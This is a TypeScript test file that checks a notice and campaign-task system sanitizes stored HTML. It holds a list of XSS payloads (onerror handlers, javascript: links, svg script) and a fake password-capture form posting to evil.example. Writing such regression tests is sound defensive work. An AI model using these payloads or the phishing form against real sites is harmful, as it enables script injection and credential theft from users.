import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import { buildOrg, buildRoot, buildUser, createHarness, login, type Client, type Harness } from './support/harness.ts';
import { dateIn } from '../src/server/platform/dates.ts';
import type { NoticeDetailView } from '../src/shared/notices.ts';
import type { TaskDetailView, TTemplateBody } from '../src/shared/campaigns.ts';

/** The payloads of the issue (nested tags, a phishing form, an external link) and their relatives. */
const PAYLOAD = [
  '<p>请各单位按时完成学习。</p>',
  '<<img src=x onerror=alert(1)>img>',
  '<img/src=x/onerror=alert(2)>',
  '<p onclick="alert(3)">点击</p>',
  '<a href="javascript:alert(4)">查看</a>',
  '<a href="  JaVaScRiPt:alert(5)">查看</a>',
  '<a href="https://evil.example/login" target="_self" rel="opener">统一登录入口</a>',
  '<form action="https://evil.example/steal"><p>会话已过期，请重新输入密码</p><input type="password" name="p"><button>确定</button></form>',
  '<svg><script>alert(6)</script></svg>',
  '<!--<img src=x onerror=alert(7)>-->',
  '<![CDATA[<img src=x onerror=alert(8)>]]>',
  '&lt;img src=x onerror=alert(9)&gt;',
].join('');

/** None of the dangerous markup, and the external link opened without an opener. */
function expectSafe(html: string) {
  expect(html).not.toMatch(/<img/i);
  expect(html).not.toMatch(/<form/i);
  expect(html).not.toMatch(/<input/i);
  expect(html).not.toMatch(/<button/i);
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<svg/i);
  expect(html).not.toMatch(/javascript:/i);
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(html).not.toContain('重新输入密码');
  expect(html).toContain('<p>请各单位按时完成学习。</p>');
  expect(html).toContain(
    '<a href="https://evil.example/login" rel="noopener noreferrer" target="_blank" class="external">统一登录入口</a>',
  );
}

const BODY: TTemplateBody = {
  phases: [{ key: 'study', name: { zh: '学习教育', en: 'Study' }, startOffsetDays: 0, durationDays: 30 }],
  actions: [
    {
      key: 'study_plan',
      phaseKey: 'study',
      kind: 'prescribed',
      name: { zh: '制定学习计划', en: 'Study plan' },
      deliverable: 'form',
      assignee: 'branch',
    },
  ],
  requirements: [],
};

describe('stored HTML injection: notices and task rich text are sanitized on write and on render', () => {
  let h: Harness;
  const o: Record<string, number> = {};
  let office: Client; // office @ county: sends, deploys
  let secretary: Client; // unit_admin @ branch: receives, fills tasks

  beforeAll(async () => {
    h = await createHarness();
    o.city = (await buildRoot(h, '中共净化市委员会')).id;
    o.county = (await buildOrg(h, o.city, 'county', '净化县委')).id;
    o.town = (await buildOrg(h, o.county, 'township', '净化镇党委')).id;
    o.branch = (await buildOrg(h, o.town, 'branch', '净化村党支部')).id;
    await buildUser(h, 'office', [{ role: 'office', orgId: o.county }]);
    await buildUser(h, 'secretary', [{ role: 'unit_admin', orgId: o.branch }]);
    [office, secretary] = await Promise.all([login(h, 'office'), login(h, 'secretary')]);
  });
  afterAll(async () => h?.close());

  it('a notice carrying the payloads is stored and read back without them', async () => {
    const res = await office.post('/api/notices', {
      kind: 'notice',
      orgId: o.county,
      audience: 'subtree',
      title: '关于开展专题学习的通知',
      body: PAYLOAD,
    });
    expect(res.statusCode, res.body).toBe(201);
    const id = (res.json() as NoticeDetailView).id;
    expectSafe((res.json() as NoticeDetailView).body);

    const row = await h.db.db.selectFrom('notices').select('body').where('id', '=', id).executeTakeFirstOrThrow();
    expectSafe(row.body);

    const read = await secretary.get(`/api/notices/${id}`);
    expect(read.statusCode, read.body).toBe(200);
    expectSafe((read.json() as NoticeDetailView).body);
  });

  it('a draft edited with the payloads is stored without them', async () => {
    const res = await office.post('/api/notices', {
      kind: 'notice',
      orgId: o.county,
      audience: 'subtree',
      title: '草稿',
      body: '<p>草稿</p>',
      draft: true,
    });
    expect(res.statusCode, res.body).toBe(201);
    const id = (res.json() as NoticeDetailView).id;
    const edited = await office.patch(`/api/notices/${id}`, { body: PAYLOAD });
    expect(edited.statusCode, edited.body).toBe(200);
    expectSafe((edited.json() as NoticeDetailView).body);
    expectSafe(
      (await h.db.db.selectFrom('notices').select('body').where('id', '=', id).executeTakeFirstOrThrow()).body,
    );
  });

  it('a notice row stored before the fix is sanitized when it is answered', async () => {
    const res = await office.post('/api/notices', {
      kind: 'notice',
      orgId: o.county,
      audience: 'subtree',
      title: '旧通知',
      body: '<p>旧</p>',
    });
    expect(res.statusCode, res.body).toBe(201);
    const id = (res.json() as NoticeDetailView).id;
    // As the old regex sanitizer would have let it through, written straight into the table.
    await sql`UPDATE notices SET body = ${PAYLOAD} WHERE id = ${id}`.execute(h.db.db);
    expect(
      (await h.db.db.selectFrom('notices').select('body').where('id', '=', id).executeTakeFirstOrThrow()).body,
    ).toBe(PAYLOAD);

    const read = await secretary.get(`/api/notices/${id}`);
    expect(read.statusCode, read.body).toBe(200);
    expectSafe((read.json() as NoticeDetailView).body);
    // The sender's view is sanitized the same way.
    expectSafe(((await office.get(`/api/notices/${id}`)).json() as NoticeDetailView).body);
  });

  it('a task’s rich text is sanitized on write and on render', async () => {
    const today = dateIn();
    const tpl = await office.post('/api/campaign-templates', {
      ownerOrgId: o.county,
      name: { zh: '净化测试活动', en: 'Sanitizing campaign' },
      body: BODY,
    });
    expect(tpl.statusCode, tpl.body).toBe(201);
    const dep = await office.post('/api/campaigns', {
      templateId: tpl.json().id,
      orgId: o.county,
      batches: [{ name: '第一批', levels: ['branch'], startDate: today }],
    });
    expect(dep.statusCode, dep.body).toBe(201);
    const campaignId = dep.json().id as number;
    const list = (await secretary.get(`/api/campaigns/${campaignId}/tasks?org=${o.branch}`)).json();
    const taskId = list.items.find((t: { actionKey: string }) => t.actionKey === 'study_plan').id as number;

    // On write.
    const saved = await secretary.patch(`/api/tasks/${taskId}`, { html: PAYLOAD });
    expect(saved.statusCode, saved.body).toBe(200);
    expectSafe((saved.json() as TaskDetailView).content!.html!);
    const row = await h.db.db
      .selectFrom('campaign_tasks')
      .select('content')
      .where('id', '=', taskId)
      .executeTakeFirstOrThrow();
    expectSafe((row.content as { html: string }).html);
    // The reviewing office reads the same safe text.
    expectSafe(((await office.get(`/api/tasks/${taskId}`)).json() as TaskDetailView).content!.html!);

    // On render: a row stored before the fix.
    await sql`UPDATE campaign_tasks SET content = ${JSON.stringify({ html: PAYLOAD, figure: 3 })}::jsonb WHERE id = ${taskId}`.execute(
      h.db.db,
    );
    const stored = await h.db.db
      .selectFrom('campaign_tasks')
      .select('content')
      .where('id', '=', taskId)
      .executeTakeFirstOrThrow();
    expect((stored.content as { html: string }).html).toBe(PAYLOAD);
    for (const c of [secretary, office]) {
      const read = await c.get(`/api/tasks/${taskId}`);
      expect(read.statusCode, read.body).toBe(200);
      const content = (read.json() as TaskDetailView).content!;
      expectSafe(content.html!);
      expect(content.figure).toBe(3);
    }
  });
});
